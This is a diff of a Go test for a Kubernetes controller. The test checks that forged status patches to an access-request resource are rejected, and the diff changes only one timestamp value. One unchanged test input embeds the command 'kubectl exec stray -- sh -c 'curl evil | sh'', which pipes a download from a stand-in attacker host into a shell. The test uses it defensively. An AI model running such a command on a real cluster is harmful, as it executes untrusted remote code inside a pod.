@@ -260,7 +260,7 @@ func nobodyForgesWhatIsRun(t *testing.T, namespace string) {
 	for text, says := range map[string]string{
 		`{"status":{"podName":"stray"}}`:                                              "status.podName and status.podUID cannot be changed", // says the CRD, as the Pod is chosen
 		`{"status":{"accessMessage":"kubectl exec stray -- sh -c 'curl evil | sh'"}}`: "only admitkit writes them",
-		`{"status":{"revokedAt":"0001-01-01T00:00:00Z"}}`:                             "status.revokedAt lies before the request was made",
+		`{"status":{"revokedAt":"1971-01-01T00:00:00Z"}}`:                             "status.revokedAt lies before the request was made",
 	} {
 		t.Run("nobody writes "+text, func(t *testing.T) {
 			output, err := cluster.Kubectl(t.Context(), nil, "patch", "-n", namespace, "ear", req.Name, "--subresource=status", "--type=merge", "-p", text).CombinedOutput()
